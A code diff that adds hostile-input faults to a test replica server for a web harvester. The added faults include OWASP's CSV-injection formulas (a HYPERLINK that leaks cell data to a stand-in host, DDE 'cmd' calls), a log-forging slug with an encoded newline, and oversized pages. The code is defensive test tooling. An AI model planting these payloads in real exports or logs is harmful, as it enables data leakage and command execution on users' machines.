@@ -4,8 +4,8 @@ A run chooses faults by spec, `NAME[:always][@RATE]`: 'http503' faults ~3% of th
 applies to, 'http503:always@0.1' faults 10% and never lets the retry through. Which URLs a
 fault picks is a pure function of (fault_seed, fault name, URL), so a run is repeatable and a
 test can ask in advance which URLs will fail (`FaultPlan.owner`), and afterwards which did
-(`FaultPlan.faulted`). The index page is never faulted, so every run can start, but by 'redesign-index'
-(redesign.py: the site's wording changed); robots.txt is faulted only by 'robots-503'.
+(`FaultPlan.faulted`). The index page is faulted only by faults made for it ('forged-slug',
+'duplicate-slug', 'redesign-index'), so every other run can start; robots.txt only by 'robots-503'.
 
 Faults change the response the server was about to send (`Response`, see server.py); the
 server carries out the wire-level ones (hang, truncate).
@@ -17,12 +17,14 @@ import dataclasses
 import functools
 import gzip
 import hashlib
+import html
 import re
 import threading
 import zlib
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 from typing import TYPE_CHECKING
+from urllib.parse import quote
 
 from harvester.replica import redesign
 
@@ -35,6 +37,8 @@ GZIP_BOMB_INFLATED_BYTES = 256 * 1024 * 1024
 HTML_KINDS = frozenset({"statistics", "letters", "reports", "improvements", "article", "decision", "listing"})
 CONTENT_KINDS = HTML_KINDS | {"pdf"}
 """Resource kinds the server routes to; 'index' and 'robots' are deliberately absent."""
+SINGLE_PAGES = frozenset({"index", "robots"})
+"""Kinds of one page each: a fault made for one of them always hits it, whatever its rate."""
 
 
 def _error_page(status: int, reason: str) -> bytes:
@@ -214,6 +218,83 @@ def _letter_gzip_bomb(response: Response, path: str, hang_seconds: float) -> Res
     return dataclasses.replace(response, body=gzip_bomb(), content_encoding="gzip", cacheable=False)
 
 
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"Read the report")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+)
+"""Text that a spreadsheet opening a CSV runs as a formula (OWASP's CSV injection examples)."""
+
+
+def _formula_text(response: Response, path: str, hang_seconds: float) -> Response:
+    """Each report's title and summary begin with a spreadsheet formula, as text pasted into the site's
+    editor could; the page is otherwise intact."""
+    formulas = iter(FORMULAS * 64)
+
+    def prefix(match: re.Match) -> bytes:
+        return match.group(1) + html.escape(next(formulas)).encode() + b" " + match.group(2)
+
+    body = re.sub(rb"(<h3><a [^>]*>)([^<])", prefix, response.body)
+    body = re.sub(rb"(</p>\s*<p>)([^<])", prefix, body)
+    return dataclasses.replace(response, body=body)
+
+
+HUGE_CHAPTER_BYTES = 1_900_000
+"""Text added to each chapter of a report: just under the 2 MiB a page may be, so every chapter is read and a
+report of two or more chapters is a text of megabytes."""
+
+
+def _huge_report(response: Response, path: str, hang_seconds: float) -> Response:
+    """Each page of a report (its landing page and every chapter: a decision page with a chapter list) runs to
+    ~1.9 MB of paragraphs."""
+    if b'<aside class="chapters">' not in response.body:
+        return response
+    paragraph = "<p>The council's records of the case run to many pages, each of them read in full. </p>\n"
+    padding = "".join(
+        paragraph.replace("many", f"{n:,}") for n in range(HUGE_CHAPTER_BYTES // len(paragraph))
+    )
+    body = response.body.replace(b"</article>", padding.encode() + b"</article>", 1)
+    return dataclasses.replace(response, body=body)
+
+
+FORGED_LOG_LINE = "2026-01-01 00:00:00 [harvester] ERROR: forged by the site"
+FORGED_SLUG = "luton-borough-council\n" + FORGED_LOG_LINE
+"""A slug that, decoded and logged raw, ends its log line and writes one of its own."""
+
+
+def _forged_slug(response: Response, path: str, hang_seconds: float) -> Response:
+    """The index lists one more council, whose link's slug holds an encoded newline and a forged log line."""
+    href = f"/your-councils-performance/{quote(FORGED_SLUG)}/statistics"
+    link = f'<li><a href="{html.escape(href)}">Luton Borough Council</a></li>\n'.encode()
+    return dataclasses.replace(response, body=response.body.replace(b"</ul>", link + b"</ul>", 1))
+
+
+DUPLICATE_SLUG, DUPLICATED_SLUG = "luton-council", "luton-borough-council"
+"""A second slug the site answers with Luton's own pages (its links still name Luton's slug)."""
+
+
+def _duplicate_slug(response: Response, path: str, hang_seconds: float) -> Response:
+    """The index lists Luton a second time, under a slug of its own that serves Luton's pages (FaultPlan.routed)."""
+    link = f'<li><a href="/your-councils-performance/{DUPLICATE_SLUG}/statistics">Luton Council</a></li>\n'
+    return dataclasses.replace(response, body=response.body.replace(b"</ul>", link.encode() + b"</ul>", 1))
+
+
+OVER_LIMIT_PAGE_BYTES = 5 * 1024 * 1024
+
+
+def _page_over_limit(response: Response, path: str, hang_seconds: float) -> Response:
+    """The page with 5 MiB of hex digits before its end: over the 2 MiB a page may be, gzip-compressed too."""
+    digest = hashlib.sha256(path.encode()).digest()
+    blocks = []
+    for _ in range(OVER_LIMIT_PAGE_BYTES // 64):
+        digest = hashlib.sha256(digest).digest()
+        blocks.append(digest.hex())
+    padding = f'<p class="appendix">{"".join(blocks)}</p>'.encode()
+    # Before </body>: every decision template ends there, not all of them in an <article>.
+    return dataclasses.replace(response, body=response.body.replace(b"</body>", padding + b"</body>", 1))
+
+
 @dataclass(frozen=True)
 class Fault:
     name: str
@@ -223,6 +304,8 @@ class Fault:
     transient: bool
     """True: by default only the first request to a chosen URL fails; ':always' makes it persist."""
     apply: Callable[[Response, str, float], Response]
+    aliases: tuple[tuple[str, str], ...] = ()
+    """(slug, slug it stands for): the server answers a council page of the first with the second's."""
 
 
 FAULTS: dict[str, Fault] = {
@@ -275,6 +358,18 @@ FAULTS: dict[str, Fault] = {
               HTML_KINDS, False, _wrong_charset),
         Fault("letter-bomb", "letter PDFs answer 40 MiB with no Content-Length, then close.",
               frozenset({"pdf"}), False, _letter_bomb),
+        Fault("formula-text", "reports list pages whose titles and summaries begin with spreadsheet formulas "
+              "(=HYPERLINK(...), @SUM(...), +cmd|...).", frozenset({"reports"}), False, _formula_text),
+        Fault("huge-report", "every chapter of a report (a decision page with chapter links) runs to ~1.9 MB, so a "
+              "report's text is megabytes: over what Datasette serves from five chapters on.",
+              frozenset({"decision"}), False, _huge_report),
+        Fault("forged-slug", "the index lists a council whose slug holds an encoded newline and a forged log "
+              "line (luton-borough-council%0A2026-01-01 00:00:00 [harvester] ERROR: ...).",
+              frozenset({"index"}), False, _forged_slug),
+        Fault("duplicate-slug", f"the index also lists {DUPLICATE_SLUG}, a slug the site answers with Luton's own "
+              "pages.", frozenset({"index"}), False, _duplicate_slug, ((DUPLICATE_SLUG, DUPLICATED_SLUG),)),
+        Fault("decision-over-limit", "decision pages run to over 5 MiB (an appendix of hex digits), past the 2 MiB "
+              "a page may be, every time they are asked for.", frozenset({"decision"}), False, _page_over_limit),
         Fault("letter-gzip-bomb", "letter PDFs answer the gzip bomb (~250 KB inflating to 256 MiB).",
               frozenset({"pdf"}), False, _letter_gzip_bomb),
     )
@@ -311,8 +406,8 @@ class FaultSpec:
         rate = float(rate_text) if rate_text else DEFAULT_RATE
         if not 0 < rate <= 1:
             raise ValueError(f"fault {spec!r}: rate must be in (0, 1]")
-        if name == "robots-503" or name.startswith(redesign.PREFIX):
-            rate = 1.0  # robots.txt is one URL; a redesign is the whole site's
+        if fault.kinds <= SINGLE_PAGES or name.startswith(redesign.PREFIX):
+            rate = 1.0  # one page each, or (a redesign) the whole site's wording
         return cls(fault=fault, always=bool(modifier) or not fault.transient, rate=rate)
 
 
@@ -354,6 +449,15 @@ class FaultPlan:
                 return response
             self._faulted.append(key)
         return spec.fault.apply(response, path, self.hang_seconds)
+
+    def routed(self, target: str) -> str:
+        """The request target the server answers: a council page of an alias slug is its council's."""
+        for spec in self.specs:
+            for alias, slug in spec.fault.aliases:
+                prefix = f"/your-councils-performance/{alias}/"
+                if target.lower().startswith(prefix):
+                    return f"/your-councils-performance/{slug}/" + target[len(prefix) :]
+        return target
 
     @property
     def faulted(self) -> list[tuple[str, str]]:
